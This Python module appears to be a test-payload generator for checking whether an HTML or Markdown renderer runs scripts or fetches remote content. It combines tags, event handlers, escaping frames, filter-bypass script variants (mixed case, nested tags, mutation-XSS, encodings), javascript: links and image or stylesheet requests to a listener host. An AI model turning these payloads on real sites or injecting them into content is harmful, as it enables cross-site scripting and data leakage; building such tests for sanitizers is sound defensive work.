"""Texts that try to run a script or to fetch something from elsewhere: HTML and Markdown, in many combinations.

`MARK` in a payload is the number of the payload: a script that runs says so through `window.__run`, a request through
the address of a listener.
"""

from itertools import product

ELEMENTS = (
    "img", "svg", "iframe", "body", "input autofocus", "video", "audio", "details open", "object", "embed", "marquee",
    "select autofocus", "textarea autofocus", "button autofocus", "a tabindex=1 autofocus", "style", "link", "math", "form", "x-own",
)  # fmt: skip
HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpointerenter",
    "onstart",
)
RUN = "window.__run=MARK"
FRAMES = (
    "{}", "'>{}", "\">{}", "</h2>{}", "</textarea>{}", "-->{}", "]]>{}", "`{}`", "**{}**", "[1] {}", "> {}", "1. {}", "### {}",
    "\n\n{}\n\n", "${{{}}}", "{{{{{}}}}}", "<!--{}",
)  # fmt: skip
SCRIPTS = (
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</ScRiPt>", "<script src=//HOST/MARK></script>", f"<svg><script>{RUN}</script></svg>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<svg/onload={RUN}>", "<iframe srcdoc='<script>parent.__run=MARK</script>'></iframe>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<template><img src=x onerror={RUN}></template>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞", f"<script\x0c>{RUN}</script>", f"$$\\href{{javascript:{RUN}}}{{x}}$$", f"\\({RUN}\\)",
)  # fmt: skip
MARKDOWN = (
    "![x](http://HOST/MARK)", "![x][1]\n\n[1]: http://HOST/MARK", "[1]: http://HOST/MARK", "[x](javascript:window.__run=MARK)",
    "[x](JaVaScRiPt:window.__run=MARK)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "<http://HOST/MARK>",
    "[x](http://HOST/MARK)", "[x](//HOST/MARK)", "![](//HOST/MARK){onerror=window.__run=MARK}", "[x](vbscript:window.__run=MARK)",
    "[![x](http://HOST/MARK)](http://HOST/MARK)", "```html\n<img src=//HOST/MARK>\n```", "    <img src=//HOST/MARK>",
    "<img src=//HOST/MARK>", "<div style='background:url(//HOST/MARK)'>x</div>", "<style>@import '//HOST/MARK';</style>",
    "<link rel=stylesheet href=//HOST/MARK>", "<meta http-equiv=refresh content='0;url=//HOST/MARK'>", "<base href=//HOST/>",
    "<video poster=//HOST/MARK>", "<form action=//HOST/MARK><input name=q><button>x</button></form>", "<object data=//HOST/MARK>",
    "<svg><image href=//HOST/MARK></svg>", "<svg><use href=//HOST/MARK#x></svg>", "<input type=image src=//HOST/MARK>",
    "<audio src=//HOST/MARK autoplay>", "<table background=//HOST/MARK>", "<iframe src=//HOST/MARK></iframe>", "<a href=//HOST/MARK ping=//HOST/MARK>x</a>",
)  # fmt: skip


def payloads(host: str) -> list[str]:
    """Return every payload, with its own number and the listener's address in it."""
    handled = [f"<{element} src=x href=x {handler}={RUN}>x" for element, handler in product(ELEMENTS, HANDLERS)]
    framed = [
        frame.format(inner) for frame, inner in product(FRAMES, (*SCRIPTS[:8], *MARKDOWN[:8], handled[0], handled[10]))
    ]
    every = dict.fromkeys([*handled, *SCRIPTS, *MARKDOWN, *framed])
    return [text.replace("MARK", str(number)).replace("HOST", host) for number, text in enumerate(every, 1)]
